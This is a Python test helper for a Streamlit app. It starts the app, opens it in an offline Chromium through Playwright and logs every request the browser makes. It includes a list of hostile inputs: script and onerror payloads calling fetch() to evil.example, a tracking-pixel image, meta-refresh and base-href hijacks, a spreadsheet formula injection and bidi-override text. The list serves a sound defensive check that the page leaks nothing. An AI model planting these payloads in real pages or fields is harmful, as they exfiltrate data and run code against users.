"""The workbench in a real browser that reaches this machine only, and texts that would break out of a careless page."""

import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from prep.project import Project, read_records
from prep.records import Decision

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
APP = Path(__file__).resolve().parent.parent / "streamlit_app.py"
OFFLINE = (
    "--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--no-first-run", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
)  # fmt: skip
HOSTILE = (
    "![beacon](http://evil.example/pixel.png?leak=1)",
    '<img src="http://evil.example/i.png" onerror="fetch(`http://evil.example/x`)">',
    "<script>fetch('http://evil.example/s')</script>",
    "<style>body{display:none;background:url(http://evil.example/c.png)}</style>",
    '<link rel="stylesheet" href="http://evil.example/a.css">',
    '<iframe src="http://evil.example/"></iframe>',
    '<svg onload="fetch(`http://evil.example/v`)"><image href="http://evil.example/v.png"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    "[link](http://evil.example/md) and http://evil.example/bare and www.evil.example",
    "[ref]: http://evil.example/ref\n![r][ref]",
    ":red[coloured] :blue-background[marked] :red-badge[badge]",
    ":material/home: and :streamlit: and :smile:",
    "a -> b <- c -- d >= e != f",
    "$x^2$ and $$\\int_0^1 x$$",
    "```mermaid\ngraph TD; A-->B\n```",
    "# heading\n- item\n1. one\n> quote\n---\n| a | b |\n|---|---|",
    "**bold** _it_ ~~gone~~ `code` \\* &amp; &lt;b&gt; &#x3c;",
    "=cmd|' /C calc'!A0 +1+1 @SUM(1) -2",
    "\u202edesrever\u202c \u2066isolated\u2069 \u200bzero",
    "<!-- comment --> <![CDATA[x]]> <?php echo 1 ?>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "<video autoplay src=http://evil.example/v.mp4><audio src=http://evil.example/a.mp3>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "</div></div></body><h1>out</h1>",
    "  two  spaces\n\n\nthree lines\ttab  ",
)
NEEDS_BROWSER = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason=f"needs Chromium, and {CHROMIUM} is not there"),
]


@dataclass
class Site:
    """The running app, a page in the browser, and every address that the browser asked for."""

    address: str
    project: Project
    page: Page
    asked: list[str] = field(default_factory=list)

    def visit(self, path: str, waits_for: str) -> str:
        """Open a page; all of its text once `waits_for` is on it."""
        self.page.goto(self.address + path)
        expect(self.page.get_by_text(waits_for).first).to_be_visible(timeout=60_000)
        return self.text()

    def text(self) -> str:
        self.page.wait_for_timeout(200)  # what was asked for is there; now its neighbours
        return str(self.page.evaluate("document.body.textContent"))

    def settle(self) -> None:
        """Until the page is drawn to its end, and the quiet time is over that tells a press from a held key."""
        expect(self.page.get_by_test_id("stApp")).to_have_attribute(
            "data-test-script-state", "notRunning", timeout=15_000
        )
        self.page.wait_for_timeout(400)

    def press(self, key: str, then: str) -> None:
        """One key, until `then` is on the page."""
        self.settle()
        self.page.keyboard.press(key)
        expect(self.page.get_by_text(then).first).to_be_visible(timeout=15_000)

    @property
    def asked_elsewhere(self) -> set[str]:
        """The addresses asked for that are not on this machine."""
        return {url for url in self.asked if not _is_local(url)}

    @property
    def decisions(self) -> list[Decision]:
        return read_records(self.project.decisions, Decision) if self.project.decisions.is_file() else []


@contextmanager
def opened(project: Project) -> Iterator[Site]:
    """The app on this project and a page in a browser, until the block ends."""
    port = _free_port()
    environment = {**os.environ, "PAIRWRIGHT_PROJECT": str(project.root)}
    command = [sys.executable, "-m", "streamlit", "run", str(APP), "--server.port", str(port)]
    server = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        _wait_until_up(port)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(OFFLINE))
            page = browser.new_page(viewport={"width": 1440, "height": 900})
            site = Site(f"http://127.0.0.1:{port}", project, page)
            page.on("request", lambda request: site.asked.append(request.url))
            page.on("websocket", lambda websocket: site.asked.append(websocket.url))
            yield site
            browser.close()
    finally:
        server.terminate()
        server.wait(timeout=20)


def _free_port() -> int:
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        return int(held.getsockname()[1])


def _wait_until_up(port: int) -> None:
    for _ in range(300):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as answer:
                if answer.status == 200:
                    return
        except OSError:
            time.sleep(0.2)
    raise TimeoutError("the app did not start within a minute")


def _is_local(url: str) -> bool:
    return urlsplit(url).hostname == "127.0.0.1" or url.startswith(("data:", "blob:http://127.0.0.1"))
